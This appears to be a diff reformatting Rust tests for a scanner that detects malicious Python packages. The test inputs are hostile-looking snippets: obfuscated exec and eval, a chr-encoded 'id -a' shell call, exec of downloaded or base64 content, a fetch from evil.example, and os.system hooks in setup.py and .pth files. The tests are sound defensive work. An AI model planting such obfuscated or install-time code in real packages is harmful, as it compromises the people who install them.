@@ -21,7 +21,9 @@ fn aliases_resolve() {
 
 #[test]
 fn builtins_through_getattr_and_globals() {
-    let f = facts("getattr(__builtins__, 'ex' + 'ec')('1')\nglobals()['__builtins__'].eval('2')\n__import__('builtins').compile('x', 'y', 'exec')\n");
+    let f = facts(
+        "getattr(__builtins__, 'ex' + 'ec')('1')\nglobals()['__builtins__'].eval('2')\n__import__('builtins').compile('x', 'y', 'exec')\n",
+    );
     let names = call_names(&f);
     for want in ["builtins.exec", "builtins.eval", "builtins.compile"] {
         assert!(names.contains(&want), "{want} not in {names:?}");
@@ -35,11 +37,21 @@ fn strings_fold_from_pieces() {
     );
     let values: Vec<&str> = f.strings.iter().map(|s| s.value.as_str()).collect();
     assert!(values.contains(&"https://evil.example/x"), "{values:?}");
-    let folded: Vec<&str> = f.strings.iter().filter(|s| s.folded).map(|s| s.value.as_str()).collect();
+    let folded: Vec<&str> = f
+        .strings
+        .iter()
+        .filter(|s| s.folded)
+        .map(|s| s.value.as_str())
+        .collect();
     assert!(folded.contains(&"evil.com"), "{values:?}");
     // short folded strings are below the string-fact threshold, but fold as arguments:
     let g = facts("import os\nos.system(''.join(map(chr, [105, 100, 32, 45, 97])))\n");
-    assert_eq!(g.calls.iter().find(|c| c.name == "os.system").unwrap().args[0].text().as_deref(), Some("id -a"));
+    assert_eq!(
+        g.calls.iter().find(|c| c.name == "os.system").unwrap().args[0]
+            .text()
+            .as_deref(),
+        Some("id -a")
+    );
 }
 
 #[test]
@@ -47,12 +59,18 @@ fn obfuscated_chr_via_builtin_reprs() {
     // prompt-tookit style: getattr(__builtins__, 'chr') spelled from reprs of builtins.
     let src = "x = ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [119, 105, 110, 51, 50]))\n";
     let f = facts(src);
-    assert!(f.strings.iter().any(|s| s.value == "win32"), "{:?}", f.strings);
+    assert!(
+        f.strings.iter().any(|s| s.value == "win32"),
+        "{:?}",
+        f.strings
+    );
 }
 
 #[test]
 fn arguments_remember_their_sources() {
-    let f = facts("import base64, requests\np = base64.b64decode('aGk=')\nexec(p)\nr = requests.get('http://x')\nexec(r.text)\n");
+    let f = facts(
+        "import base64, requests\np = base64.b64decode('aGk=')\nexec(p)\nr = requests.get('http://x')\nexec(r.text)\n",
+    );
     let execs: Vec<&Call> = f.calls_named("builtins.exec").collect();
     assert_eq!(execs.len(), 2);
     assert!(execs[0].args[0].from_call(|c| c == "base64.b64decode"));
@@ -61,9 +79,13 @@ fn arguments_remember_their_sources() {
 
 #[test]
 fn triggers_follow_where_code_runs() {
-    let f = facts("import os\nos.system('a')\ndef f():\n    os.system('b')\ndef g():\n    os.system('c')\ng()\nif __name__ == '__main__':\n    os.system('d')\n");
-    let t: Vec<(String, Trigger)> =
-        f.calls_named("os.system").map(|c| (c.args[0].text().unwrap(), c.trigger)).collect();
+    let f = facts(
+        "import os\nos.system('a')\ndef f():\n    os.system('b')\ndef g():\n    os.system('c')\ng()\nif __name__ == '__main__':\n    os.system('d')\n",
+    );
+    let t: Vec<(String, Trigger)> = f
+        .calls_named("os.system")
+        .map(|c| (c.args[0].text().unwrap(), c.trigger))
+        .collect();
     assert_eq!(
         t,
         vec![
@@ -73,7 +95,11 @@ fn triggers_follow_where_code_runs() {
             ("d".into(), Trigger::Runtime)
         ]
     );
-    let s = analyze("setup.py", b"def f():\n    import os\n    os.system('x')\n", FileRole::SetupPy);
+    let s = analyze(
+        "setup.py",
+        b"def f():\n    import os\n    os.system('x')\n",
+        FileRole::SetupPy,
+    );
     assert_eq!(s.calls[0].trigger, Trigger::Install);
 }
 
@@ -81,7 +107,10 @@ fn triggers_follow_where_code_runs() {
 fn python2_falls_back_to_tokens() {
     let src = "import urllib2\nprint \"hi\"\nexec \"import os\"\nurllib2.urlopen('http://evil.example/p').read()\n";
     let f = facts(src);
-    assert!(matches!(f.status, ParseStatus::Recovered { .. } | ParseStatus::Tokens { .. }));
+    assert!(matches!(
+        f.status,
+        ParseStatus::Recovered { .. } | ParseStatus::Tokens { .. }
+    ));
     let names = call_names(&f);
     assert!(names.contains(&"urllib2.urlopen"), "{names:?}");
     assert!(names.contains(&"builtins.exec"), "{names:?}");
@@ -89,7 +118,11 @@ fn python2_falls_back_to_tokens() {
 
 #[test]
 fn hostile_nesting_is_bounded() {
-    let deep = format!("x = {}1{}\nimport os\nos.system('id')\n", "(".repeat(100_000), ")".repeat(100_000));
+    let deep = format!(
+        "x = {}1{}\nimport os\nos.system('id')\n",
+        "(".repeat(100_000),
+        ")".repeat(100_000)
+    );
     let f = facts(&deep);
     assert!(matches!(f.status, ParseStatus::Tokens { .. }));
     assert!(call_names(&f).contains(&"os.system"));
@@ -105,7 +138,11 @@ fn hostile_nesting_is_bounded() {
 
 #[test]
 fn pth_runs_only_import_lines() {
-    let f = analyze("x.pth", b"/some/path\nimport os; os.system('id')\n", FileRole::Pth);
+    let f = analyze(
+        "x.pth",
+        b"/some/path\nimport os; os.system('id')\n",
+        FileRole::Pth,
+    );
     assert_eq!(f.calls[0].name, "os.system");
     assert_eq!(f.calls[0].trigger, Trigger::Install);
     assert_eq!(f.calls[0].span.line, 2);
